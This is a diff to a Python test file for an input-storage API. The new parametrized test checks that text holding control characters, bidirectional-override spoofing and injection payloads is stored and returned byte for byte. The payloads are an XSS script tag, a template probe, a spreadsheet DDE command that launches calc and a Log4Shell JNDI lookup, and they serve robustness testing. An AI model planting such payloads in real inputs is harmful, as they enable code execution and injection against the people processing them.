@@ -132,10 +132,22 @@ def test_an_id_is_made_where_none_is_sent(ctx: Context, in_app: App) -> None:
     assert len(post(ctx, in_app, item("")).inputs[0].id) == 32
 
 
-def test_texts_are_stored_as_they_are(ctx: Context, in_app: App) -> None:
-    raw = "line\r\n\x00\u202e\U0001f600 <script>"
-    assert codes(post(ctx, in_app, text("t", raw))) == [30000]
-    assert get(ctx, in_app, "t").data.text.raw == raw
+@pytest.mark.parametrize(
+    "raw",
+    [
+        pytest.param("line\r\n\x00\x07\x1b[31mred\x7f", id="E3"),
+        pytest.param("\u202egnp.exe\u2066 Z\u0351\u036b\u0343 \U0001f600\U000e0041 \u0378", id="E5"),
+        pytest.param("<script>alert(1)</script>{{7*7}}=cmd|' /C calc'!A0 ${jndi:ldap://h/a}", id="E6"),
+    ],
+)
+def test_bad_E3_E5_E6_texts_are_stored_as_they_are(ctx: Context, in_app: App, raw: str) -> None:
+    sent = text("t", raw)
+    sent.data.metadata["note"] = raw.replace("\0", "")
+    assert codes(post(ctx, in_app, sent)) == [30000]
+    for found in (get(ctx, in_app, "t"), *ListInputs(ctx, service_pb2.ListInputsRequest(user_app_id=in_app)).inputs):
+        assert found.data.text.raw == raw
+        assert found.data.metadata["note"] == raw.replace("\0", "")
+    assert ctx.blobs.read(hashlib.sha256(raw.encode()).hexdigest()) == raw.encode()
 
 
 def test_an_add_job_counts_its_inputs(ctx: Context, in_app: App) -> None:
